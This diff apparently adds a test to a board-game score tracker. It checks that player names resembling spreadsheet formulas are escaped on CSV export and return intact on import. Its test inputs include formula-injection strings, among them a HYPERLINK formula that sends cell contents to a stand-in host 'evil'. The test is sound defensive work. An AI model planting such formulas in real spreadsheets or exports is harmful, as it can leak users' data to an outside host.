@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import shutil
 from pathlib import Path
@@ -97,3 +99,36 @@ def test_a_wrong_row_is_refused_with_its_line(refuses: Refuses, text: str, words
     refuses(
         "import csv - --yes", 7, words, "standard input, line", "Nothing was written.", stdin=text
     )
+
+
+RESULTS = """
+format = 1
+game = "quadropolis"
+edition = "1"
+mode = "classic"
+seats = ["p1", "p2"]
+[names]
+p1 = NAME
+p2 = "Ben"
+[result]
+p1 = -8
+p2 = 37
+"""
+RUNS = ("=1+1", "+1", "-1", "@SUM(1)", "'=1+1", "\uff1d1+1", '=HYPERLINK("http://evil/?"&A1,"x")')
+"""What a spreadsheet takes for a formula, and a name that is the neutral form of one."""
+
+
+@pytest.mark.parametrize("name", [*RUNS, "'Anna'", "O'Brien", "Anna - Ben"])
+def test_a_name_is_no_formula_in_a_spreadsheet_and_comes_back_as_it_was(
+    run: Run, tmp_path: Path, db: Path, name: str
+) -> None:
+    record = RESULTS.replace("NAME", json.dumps(name, ensure_ascii=False))
+    assert run("session record - --yes", stdin=record).code == 0
+    exported = tmp_path / "exported.csv"
+    assert run(f"export csv plays -o '{exported}'").code == 0
+    (row, _) = csv.DictReader(io.StringIO(exported.read_text("utf-8")))
+    assert row["player"] == (f"'{name}" if name in RUNS else name)
+    assert json.loads(run("export json plays").out.splitlines()[0])["player"] == name
+    shutil.move(db, tmp_path / "other.db")
+    assert run(f"import csv '{exported}' --yes").code == 0
+    assert scores(run)[0][name] == int(row["score"])
